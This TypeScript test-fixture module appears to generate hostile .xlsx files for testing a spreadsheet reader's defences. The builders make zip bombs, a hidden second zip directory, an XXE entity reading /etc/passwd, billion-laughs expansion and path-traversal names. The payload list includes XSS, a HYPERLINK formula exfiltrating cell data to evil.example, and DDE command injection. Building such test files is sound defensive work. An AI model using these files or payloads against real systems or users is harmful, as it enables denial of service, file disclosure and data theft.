/**
 * Hostile files, built the way a security tester would (issue 16), from one honest workbook (an example submission).
 * Each builder returns the file's bytes; `writeHostileFiles` writes them all to a folder for the CLI and the pane.
 * Zip layout per PKWARE APPNOTE.TXT 4.3 (local header 4.3.7, central header 4.3.12, end record 4.3.16, zip64 4.3.14/15).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { readZipDirectory } from '../../../src/xlsx/zip-directory';
import { inflateEntry } from '../../../src/xlsx/zip-inflate';
import { centralHeader, endRecord, localHeader } from '../../helpers/zip';

export const EXAMPLE = path.resolve(__dirname, '..', '..', '..', 'examples', '区卫健局-2026年第三季度进展情况表.xlsx');

/** Text that only the hidden directory holds: it must never reach any output. */
export const SECRET = '隐藏目录中的秘密内容SECRET-7f3a';

/** One entry to write: name, uncompressed data (or raw deflate data with its declared size and CRC). */
export interface Part {
  name: string;
  data?: Uint8Array;
  deflated?: { raw: Uint8Array; size: number; crc: number };
}

/** The honest workbook's parts, inflated. */
export function honestParts(bytes: Uint8Array = new Uint8Array(fs.readFileSync(EXAMPLE))): Part[] {
  const dir = readZipDirectory(bytes);
  if (!dir.ok) throw new Error(dir.detail);
  return dir.entries.map((e) => {
    const got = inflateEntry(bytes, e);
    if (!got.ok) throw new Error(got.detail);
    return { name: e.name, data: got.data };
  });
}

interface Written {
  locals: Buffer;
  central: Buffer;
  count: number;
}

/** Local headers + data and the central headers of `parts`, local offsets counted from `base`. */
function writeParts(parts: readonly Part[], base = 0): Written {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = base;
  for (const p of parts) {
    let raw: Uint8Array;
    let size: number;
    let crc: number;
    if (p.deflated) ({ raw, size, crc } = p.deflated);
    else {
      const data = p.data ?? new Uint8Array(0);
      raw = zlib.deflateRawSync(data);
      size = data.length;
      crc = zlib.crc32(data);
    }
    const header = { name: p.name, method: 8 as const, crc, compressedSize: raw.length, size };
    const local = Buffer.concat([localHeader(header), Buffer.from(raw.buffer, raw.byteOffset, raw.byteLength)]);
    locals.push(local);
    centrals.push(centralHeader(header, offset));
    offset += local.length;
  }
  return { locals: Buffer.concat(locals), central: Buffer.concat(centrals), count: parts.length };
}

/** A plain zip of `parts`. */
export function zipOf(parts: readonly Part[]): Uint8Array {
  const w = writeParts(parts);
  return new Uint8Array(Buffer.concat([w.locals, w.central, endRecord(w.count, w.central.length, w.locals.length)]));
}

/** `parts` with the shared strings' first text replaced by SECRET (what the hidden directory shows). */
function secretParts(parts: readonly Part[]): Part[] {
  return parts.map((p) =>
    /sharedStrings\.xml$/i.test(p.name) && p.data
      ? { name: p.name, data: new Uint8Array(Buffer.from(Buffer.from(p.data).toString('utf8').replace(/<t(\s[^>]*)?>[^<]*<\/t>/, `<t>${SECRET}</t>`), 'utf8')) }
      : p,
  );
}

/**
 * The hidden directory: the honest entries and directory, then a second set of entries (with SECRET) and its directory,
 * and an end record whose 22-byte comment is a second end record pointing at the hidden directory. A reader that
 * scans back for the last end signature (SheetJS) reads the hidden one.
 */
export function hiddenDirectory(parts: readonly Part[] = honestParts()): Uint8Array {
  const honest = writeParts(parts);
  const hiddenBase = honest.locals.length;
  const hidden = writeParts(secretParts(parts), hiddenBase);
  const cdOffset = hiddenBase + hidden.locals.length;
  const hiddenCd = cdOffset + honest.central.length;
  const fake = endRecord(hidden.count, hidden.central.length, hiddenCd);
  const real = endRecord(honest.count, honest.central.length, cdOffset, fake);
  return new Uint8Array(Buffer.concat([honest.locals, hidden.locals, honest.central, hidden.central, real]));
}

/**
 * Raw deflate data of `size` zero bytes, built from one 64 MB block flushed to a byte boundary (Z_FULL_FLUSH resets
 * the dictionary, so the block can be repeated) and an empty final block (03 00): 2 GB cost ~2 MB and no time.
 */
export function deflatedZeros(size: number): { raw: Uint8Array; size: number; crc: number } {
  const block = 64 * 1024 * 1024;
  const zeros = Buffer.alloc(block);
  const piece = zlib.deflateRawSync(zeros, { finishFlush: zlib.constants.Z_FULL_FLUSH, level: 9 });
  const n = Math.floor(size / block);
  const rest = size - n * block;
  const pieces: Buffer[] = [];
  let crc = 0;
  for (let i = 0; i < n; i++) {
    pieces.push(piece);
    crc = zlib.crc32(zeros, crc);
  }
  if (rest) {
    pieces.push(zlib.deflateRawSync(zeros.subarray(0, rest), { finishFlush: zlib.constants.Z_FULL_FLUSH }));
    crc = zlib.crc32(zeros.subarray(0, rest), crc);
  }
  pieces.push(Buffer.from([0x03, 0x00]));
  return { raw: new Uint8Array(Buffer.concat(pieces)), size, crc };
}

const TWO_GB = 2 * 1024 * 1024 * 1024 - 1024;

/** Lying sizes: the honest workbook plus an entry whose headers declare 1,000 bytes and whose data inflates to 2 GB. */
export function lyingSizes(parts: readonly Part[] = honestParts()): Uint8Array {
  const zeros = deflatedZeros(TWO_GB);
  return zipOf([...parts, { name: 'xl/worksheets/sheet9.xml', deflated: { raw: zeros.raw, size: 1000, crc: 0 } }]);
}

/** The honest bomb: an entry that says truthfully it unpacks to 2 GB. */
export function honestBomb(parts: readonly Part[] = honestParts()): Uint8Array {
  return zipOf([...parts, { name: 'xl/worksheets/sheet9.xml', deflated: deflatedZeros(TWO_GB) }]);
}

/** The honest bomb hidden behind a fake end record in the comment (the 1.97 MB file of the issue). */
export function hiddenBomb(parts: readonly Part[] = honestParts()): Uint8Array {
  return hiddenDirectory([...parts, { name: 'xl/worksheets/sheet9.xml', deflated: deflatedZeros(TWO_GB) }]);
}

/**
 * 100,000 empty stored entries, with a zip64 end record and locator (the count does not fit in 16 bits), as Python's
 * zipfile and 7-Zip write them.
 */
export function manyEntries(count = 100_000): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (let i = 0; i < count; i++) {
    const name = Buffer.from(`f/${String(i).padStart(6, '0')}.txt`);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(10, 4);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(45, 4);
    central.writeUInt16LE(10, 6);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name);
    centrals.push(central, name);
    offset += 30 + name.length;
  }
  const cd = Buffer.concat(centrals);
  const z64 = Buffer.alloc(56);
  z64.writeUInt32LE(0x06064b50, 0);
  z64.writeBigUInt64LE(44n, 4);
  z64.writeUInt16LE(45, 12);
  z64.writeUInt16LE(45, 14);
  z64.writeBigUInt64LE(BigInt(count), 24);
  z64.writeBigUInt64LE(BigInt(count), 32);
  z64.writeBigUInt64LE(BigInt(cd.length), 40);
  z64.writeBigUInt64LE(BigInt(offset), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(offset + cd.length), 8);
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(0xffff, 8);
  end.writeUInt16LE(0xffff, 10);
  end.writeUInt32LE(0xffffffff, 12);
  end.writeUInt32LE(0xffffffff, 16);
  return new Uint8Array(Buffer.concat([...locals, cd, z64, locator, end]));
}

/** The honest parts with the shared strings' XML rewritten by `edit`. */
function withStrings(parts: readonly Part[], edit: (xml: string) => string): Part[] {
  return parts.map((p) => (/sharedStrings\.xml$/i.test(p.name) && p.data ? { name: p.name, data: new Uint8Array(Buffer.from(edit(Buffer.from(p.data).toString('utf8')), 'utf8')) } : p));
}

/** Entity expansion ("billion laughs"): a DTD of nested entities, the last used in the first text. */
export function entityExpansion(parts: readonly Part[] = honestParts()): Uint8Array {
  const dtd = ['<!ENTITY l0 "LOLLOLLOLLOL">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join('');
  return zipOf(withStrings(parts, (xml) => xml.replace(/<sst\b/, `<!DOCTYPE sst [${dtd}]><sst`).replace(/<t(\s[^>]*)?>[^<]*<\/t>/, '<t>&l9;</t>')));
}

/** XXE: an external entity naming a local file, used in the first text. */
export function externalEntity(parts: readonly Part[] = honestParts()): Uint8Array {
  return zipOf(withStrings(parts, (xml) => xml.replace(/<sst\b/, '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst').replace(/<t(\s[^>]*)?>[^<]*<\/t>/, '<t>&xxe;</t>')));
}

/** Traversal names: extra entries named ../../evil-*.txt and /tmp/evil-*.txt beside the honest parts. */
export function traversalNames(parts: readonly Part[] = honestParts()): Uint8Array {
  const text = new Uint8Array(Buffer.from('evil'));
  return zipOf([...parts, { name: '../../evil-traversal.txt', data: text }, { name: '/tmp/evil-absolute.txt', data: text }, { name: '..\\..\\evil-backslash.txt', data: text }]);
}

/** A huge cell: the longest progress text replaced by 3 million characters. */
export function hugeCell(parts: readonly Part[] = honestParts()): Uint8Array {
  return zipOf(withStrings(parts, (xml) => {
    const texts = [...xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)];
    const longest = texts.reduce((a, b) => (b[1].length > a[1].length ? b : a));
    return xml.replace(longest[0], `<t>${'进展'.repeat(1_500_000)}</t>`);
  }));
}

/** Script and formula texts in place of the longest progress texts. */
export const SCRIPT_TEXTS = ['<script>alert(1)</script><img src=x onerror=alert(2)>', '=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];

export function scriptAndFormulaText(parts: readonly Part[] = honestParts()): Uint8Array {
  return zipOf(withStrings(parts, (xml) => {
    const texts = [...xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].sort((a, b) => b[1].length - a[1].length).slice(0, SCRIPT_TEXTS.length);
    let out = xml;
    texts.forEach((t, i) => {
      const escaped = SCRIPT_TEXTS[i].replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
      out = out.replace(t[0], `<t>${escaped}</t>`);
    });
    return out;
  }));
}

/** Every hostile file by name and the finding code it must give (undefined: it reads, and must be harmless). */
export const HOSTILE: { file: string; build: (parts: Part[]) => Uint8Array; code: string | undefined }[] = [
  { file: 'hidden-directory.xlsx', build: hiddenDirectory, code: 'file-tampered' },
  { file: 'hidden-bomb.xlsx', build: hiddenBomb, code: 'file-tampered' },
  { file: 'lying-sizes.xlsx', build: lyingSizes, code: 'file-tampered' },
  { file: 'honest-bomb.xlsx', build: honestBomb, code: 'file-too-large' },
  { file: 'many-entries.xlsx', build: () => manyEntries(), code: 'file-too-many-entries' },
  { file: 'entity-expansion.xlsx', build: entityExpansion, code: undefined },
  { file: 'external-entity.xlsx', build: externalEntity, code: undefined },
  { file: 'traversal-names.xlsx', build: traversalNames, code: undefined },
  { file: 'huge-cell.xlsx', build: hugeCell, code: undefined },
  { file: 'script-and-formula.xlsx', build: scriptAndFormulaText, code: undefined },
];

/** Write every hostile file into `dir`; returns their paths. */
export function writeHostileFiles(dir: string): string[] {
  fs.mkdirSync(dir, { recursive: true });
  const parts = honestParts();
  return HOSTILE.map((h) => {
    const file = path.join(dir, h.file);
    fs.writeFileSync(file, h.build(parts));
    return file;
  });
}
